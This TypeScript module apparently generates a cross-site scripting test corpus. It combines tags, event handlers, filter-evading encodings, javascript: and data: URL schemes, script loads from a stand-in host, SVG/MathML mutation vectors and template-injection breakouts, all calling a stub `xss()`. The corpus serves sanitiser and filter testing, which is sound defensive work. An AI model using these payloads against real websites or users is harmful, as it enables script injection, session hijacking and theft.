/**
 * What hostile writers try, made of its parts: tags and handlers, ways to write the same letters, schemes of addresses,
 * SVG and MathML, and breaks out of the places where templates put texts. Each calls `xss()` if anything ever runs it.
 */

const CALL = 'xss()';

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerrawupdate',
] as const;

const TAGS = [
  (handler: string) => `<img src=x ${handler}=${CALL}>`,
  (handler: string) => `<svg ${handler}=${CALL}></svg>`,
  (handler: string) => `<body ${handler}=${CALL}>`,
  (handler: string) => `<video ${handler}=${CALL}><source ${handler}=${CALL}></video>`,
  (handler: string) => `<details open ${handler}=${CALL}>x</details>`,
  (handler: string) => `<input ${handler}=${CALL} tabindex=0>`,
  (handler: string) => `<math ${handler}=${CALL}><mi>x</mi></math>`,
  (handler: string) => `<x-y ${handler}=${CALL} style=animation-name:x tabindex=1>x</x-y>`,
] as const;

/** The same markup as filters may let it pass and browsers may put it together again. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replace('XSS()', CALL),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
];

const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  ` javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://example.com/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `blob:null/${CALL}`,
  `filesystem:http://example.com/${CALL}`,
  `//evil.example/x.js`,
  `\\\\evil.example\\x.js`,
  `/\\evil.example/x.js`,
  `https://evil.example/"onmouseover="${CALL}`,
  `https://evil.example/'onmouseover='${CALL}`,
  `http://user:pass@evil.example/`,
] as const;

const AROUND: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `[x](${address})`,
  (address) => `url(${address})`,
];

const FOREIGN = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to=javascript:${CALL}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><maction actiontype=statusline xlink:href=javascript:${CALL}>x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
] as const;

/** Ends of the places in which servers and scripts put texts. */
const BREAKS = [
  ['"', '"'],
  ["'", "'"],
  ['">', ''],
  ["'>", ''],
  ['-->', '<!--'],
  ['</script>', '<script>'],
  ['</title>', ''],
  ['</textarea>', ''],
  ['</style>', '<style>'],
  ['</template>', ''],
  ['`);', '//'],
  ['${', '}'],
  ['{{', '}}'],
  ['{{constructor.constructor("', '")()}}'],
  ['<%=', '%>'],
  ['#{', '}'],
  ['";', '//'],
  ["';", '//'],
  ['\u2028', '\u2028'],
  ['\u0000', ''],
  [']]>', '<![CDATA['],
  ['__proto__[onerror]=', ''],
  ['\u202e', '\u202c'],
] as const;

const INNER = [CALL, `<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`] as const;

/** Every payload once, always in the same order. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...TAGS.flatMap((tag) => HANDLERS.map(tag)).flatMap((text) => ENCODINGS.map((encode) => encode(text))),
    ...SCHEMES.flatMap((address) => AROUND.map((around) => around(address))),
    ...FOREIGN,
    ...BREAKS.flatMap(([open, close]) => INNER.map((inner) => open + inner + close)),
  ]),
];

/** Addresses alone, for fields that hold one. */
export const HOSTILE_ADDRESSES: readonly string[] = SCHEMES;
